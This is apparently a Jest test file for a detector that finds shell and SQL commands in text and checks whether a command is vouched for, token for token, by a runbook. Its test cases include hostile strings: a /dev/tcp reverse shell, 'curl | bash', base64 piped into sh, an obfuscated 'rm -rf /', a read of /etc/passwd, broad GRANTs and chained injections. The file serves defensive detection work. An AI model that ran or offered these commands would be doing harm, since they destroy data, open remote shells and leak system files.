import { commandCorpus, commandSpans, commandVouched } from './release-commands';

describe('commandSpans: commands by shape', () => {
  it.each<[string, string]>([
    ['option flags', 'docker system prune -af'],
    ['a long option', 'git push --force origin main'],
    ['a pipe into a shell', 'curl -s x | bash'],
    ['a chain', 'make && make install'],
    ['a redirection to a file', "echo 'x' > /etc/hosts"],
    ['command substitution', 'kill -9 $(pgrep java)'],
    ['a shell prompt', '$ helm uninstall payments'],
    ['a script run by path', './cleanup.sh'],
    ['quotes inside the word', "r''m -rf /var/lib/mysql"],
    ['$IFS', 'rm${IFS}-rf${IFS}/'],
    ['a line continuation', 'rm \\\n -rf /'],
    ['base64 piped to a shell', 'echo cm0gLXJmIC8= | base64 -d | sh'],
    ['DELETE with a comment', 'DELETE/**/FROM biz_order'],
    ['a quoted keyword', '"DELETE" FROM biz_order'],
    ['UPDATE … SET', 'UPDATE biz_order SET status = 1'],
    ['INSERT INTO', 'INSERT IGNORE INTO audit VALUES (1)'],
    ['TRUNCATE without TABLE', 'TRUNCATE payment_record'],
    ['ALTER TABLE', 'ALTER TABLE biz_order DROP COLUMN x'],
    ['DROP DATABASE', 'drop database order_db'],
    ['SET GLOBAL', 'SET GLOBAL read_only=0'],
    ['CALL', 'CALL purge_orders()'],
    ['LOAD DATA', "LOAD DATA INFILE '/etc/passwd' INTO TABLE x"],
    ['PREPARE from hex', 'PREPARE s FROM 0x44524f50205441424c452078'],
    ['SELECT INTO OUTFILE', "SELECT * FROM x INTO OUTFILE '/tmp/x'"],
    ['GRANT', 'GRANT ALL ON *.* TO evil'],
    ['an operator CLI with plain-word arguments', 'kubectl delete namespace production'],
    ['sudo', 'sudo reboot'],
    ['code that runs code', 'python3 -c "import os; os.system(\'id\')"'],
    ['a reverse shell', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
    ['PowerShell', 'powershell -enc SQBFAFgA'],
    ['kill with a pid', 'kill 1234'],
  ])('%s: %j', (_name, text) => {
    expect(commandSpans(text).length).toBeGreaterThan(0);
  });

  it.each<[string]>([
    ['restart order-service after the DBA agrees'],
    ['Delete the duplicated payment rows'],
    ['select the right orders from the dashboard'],
    ['set the pool size to 50'],
    ['update the runbook after the incident'],
    ['the call to payment-service timed out'],
    ['kill switch engaged'],
    ['Kill the long transaction'],
    ['if active < max and waiting > 0 then 1 < 2'],
    ['config.yaml sets maxPoolSize=50 and error_code=ERR_TIMEOUT'],
    ['order 20261203000123 failed at 04:12; retry later'],
    ['最近 30 分钟出现 84 次连接超时'],
    ['p99 latency 1.25 s, 50/50 active'],
  ])('plain prose: %j', (text) => {
    expect(commandSpans(text)).toEqual([]);
  });

  it.each<[string, boolean]>([
    ['SELECT order_id, status FROM biz_order', true],
    ['SELECT * FROM x INTO OUTFILE /tmp/x', false],
    ['SELECT sleep(5), a FROM x', false],
    ['rm -rf /tmp/x', false],
  ])('read-only: %j -> %s', (text, readOnly) => {
    expect(commandSpans(text).every((span) => span.readOnly === readOnly)).toBe(true);
  });
});

describe('commandVouched: the runbook holds the command token for token', () => {
  const corpus = commandCorpus(
    [
      'To restart: kubectl rollout restart deploy/order-service',
      'Clean the spool: rm -rf /var/spool/app/tmp',
      'GRANT SELECT ON order_db.* TO reporter',
      'Preview first: kubectl delete pod payment-0 --force --dry-run=client',
    ].map((document) => commandSpans(document)),
  );
  const vouched = (text: string) => commandSpans(text).every((span) => commandVouched(span, corpus));

  it.each<[string, boolean]>([
    ['kubectl rollout restart deploy/order-service', true],
    ['Run kubectl rollout restart deploy/order-service after the DBA agrees', true],
    ['执行 kubectl rollout restart deploy/order-service 后观察', true],
    ['KUBECTL ROLLOUT RESTART DEPLOY/ORDER-SERVICE', true],
    ['rm -rf /var/spool/app/tmp', true],
    ['sudo kubectl rollout restart deploy/order-service', false],
    ['kubectl rollout restart deploy/order-service; rm -rf /', false],
    ['kubectl rollout restart deploy/order-service-canary', false],
    ['kubectl rollout restart deploy/order', false],
    ['rm -rf /var/spool/app', false],
    ['GRANT SELECT ON order_db.* TO reporter', true],
    ['GRANT SELECT ON order_db.* TO attacker', false],
    ['GRANT SELECT ON order_db.*', false],
    ['kubectl delete pod payment-0 --force --dry-run=client', true],
    ['kubectl delete pod payment-0 --force', false],
  ])('%j -> %s', (text, expected) => {
    expect(vouched(text)).toBe(expected);
  });
});
